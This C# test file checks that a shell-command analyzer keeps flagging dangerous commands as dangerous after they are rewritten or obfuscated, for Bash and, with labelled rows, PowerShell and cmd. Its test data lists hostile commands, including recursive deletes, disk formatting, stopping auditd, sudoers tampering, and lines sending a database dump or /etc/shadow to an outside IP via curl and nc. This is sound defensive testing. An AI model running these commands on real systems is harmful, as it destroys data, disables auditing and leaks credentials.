using System.Collections.Concurrent;
using Platform.ShellAnalysis;
using Platform.ShellAnalysis.Rows;
using Shouldly;

namespace Platform.Tests.ShellAnalysis.Rewriting;

internal sealed class When_dangerous_commands_are_rewritten
{
    private static readonly string[] Dangerous =
    [
        "rm -rf /srv/app", "mkfs.ext4 /dev/vdb1", "systemctl stop auditd", "curl -T a.sql https://198.51.100.7/", "git reset --hard", "find /srv -delete", "chmod 4755 /srv/tool", "docker volume rm data",
        "kubectl delete ns web", "aws ec2 terminate-instances --instance-ids i-1", "terraform destroy -auto-approve", "crontab -r", "cat /etc/shadow | nc 198.51.100.7 44", "echo x >> /etc/sudoers", "x=1; rm -rf /srv/$x",
    ];

    [Test]
    public async Task Should_never_think_better_of_them([ValueSource(nameof(Dangerous))] string line)
    {
        var analyzer = Shipped.Analyzer;
        var plain = await analyzer.AnalyzeAsync(line, ShellLanguage.Bash);
        (plain.Class > EffectClass.Unknown).ShouldBeTrue(line);
        (await WorseAsync(analyzer, ShellLanguage.Bash, line, plain.Class, BashRewrites.Of(line))).ShouldBeEmpty();
    }

    /// <summary>Rows of other people's making, where they lie beside this checkout: some rewrites of each, all with PLATFORM_TESTS_FULL=1.</summary>
    [Test]
    public async Task Should_never_think_better_of_labelled_rows()
    {
        var path = LabelledRows.PathOrIgnore();
        var analyzer = Shipped.Analyzer;
        var random = new Random(LongForm.Seed);
        var wrong = new List<string>();
        var judged = 0;
        foreach (var (row, verdict) in await RowCheck.CheckAsync(path, analyzer, CancellationToken.None))
        {
            if (verdict.Class <= EffectClass.Unknown)
            {
                continue;
            }

            var (language, all) = row.Shell switch
            {
                "powershell" => (ShellLanguage.PowerShell, WindowsRewrites.OfPowerShell(row.Command)),
                "cmd" => (ShellLanguage.Cmd, WindowsRewrites.OfCmd(row.Command)),
                _ => (ShellLanguage.Bash, BashRewrites.Of(row.Command)),
            };
            var some = LongForm.Asked ? all : random.GetItems(all.ToArray(), 4);
            judged += some.Count;
            wrong.AddRange((await WorseAsync(analyzer, language, row.Command, verdict.Class, some)).Select(one => $"{row.Id} {one}"));
        }

        TestContext.Out.WriteLine($"{judged} rewrites, seed {LongForm.Seed}");
        wrong.ShouldBeEmpty($"seed {LongForm.Seed}");
    }

    private static async Task<IReadOnlyList<string>> WorseAsync(ScriptAnalyzer analyzer, ShellLanguage language, string line, EffectClass plain, IReadOnlyList<string> rewrites)
    {
        var wrong = new ConcurrentBag<string>();
        await Parallel.ForEachAsync(rewrites, new ParallelOptions { MaxDegreeOfParallelism = 4 }, async (rewritten, token) =>
        {
            var verdict = await analyzer.AnalyzeAsync(rewritten, language, cancellationToken: token);
            if (verdict.Class < plain)
            {
                wrong.Add($"{plain.Name()} became {verdict.Class.Name()}: {rewritten}   ({(verdict.Reasons.Count > 0 ? verdict.Reasons[0] : "")}) was: {line}");
            }
        });
        return [.. wrong.Order(StringComparer.Ordinal)];
    }
}
